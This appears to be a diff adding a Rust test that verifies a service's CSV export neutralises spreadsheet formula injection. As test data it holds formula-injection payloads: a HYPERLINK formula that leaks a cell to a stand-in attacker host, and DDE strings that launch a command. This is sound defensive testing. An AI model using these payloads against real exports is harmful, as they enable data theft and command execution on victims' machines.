@@ -1393,3 +1393,60 @@ async fn the_schema_itself_refuses_a_second_active_application() {
         .await
         .unwrap();
 }
+
+/// Text that a spreadsheet would run as a formula is neutralised in the CSV export: a leading
+/// `'` before `=`, `+`, `-` and `@`, read back with a real CSV reader.
+#[tokio::test]
+async fn csv_exports_neutralise_formulas() {
+    let app = spawn_app().await;
+    let f = fixture(&app).await;
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+    ];
+    for (i, name) in hostile.iter().enumerate() {
+        let org = app
+            .create_org(
+                &format!("Knjižnica CSV {i} {}", uuid::Uuid::now_v7().simple()),
+                "member_library",
+            )
+            .await;
+        let lib = app.user("library", Some(&org)).await;
+        let mut b = body(&f.mobility_ids[0], &format!("csv{i}@knjiznica.example"));
+        b["applicant"]["full_name"] = json!(name);
+        assert_eq!(
+            create(&app, &f, &lib.token, &b).await.status(),
+            201,
+            "{name}"
+        );
+    }
+    let text = app
+        .get(
+            &format!(
+                "/api/v1/calls/{}/applications.csv?delimiter=comma",
+                f.call_id
+            ),
+            Some(&f.coordinator.token),
+        )
+        .await
+        .text()
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let names: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[3].to_string())
+        .collect();
+    for name in hostile {
+        assert!(
+            names.contains(&format!("'{name}")),
+            "{name} not neutralised: {names:?}"
+        );
+    }
+    assert!(
+        names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])),
+        "{names:?}"
+    );
+}
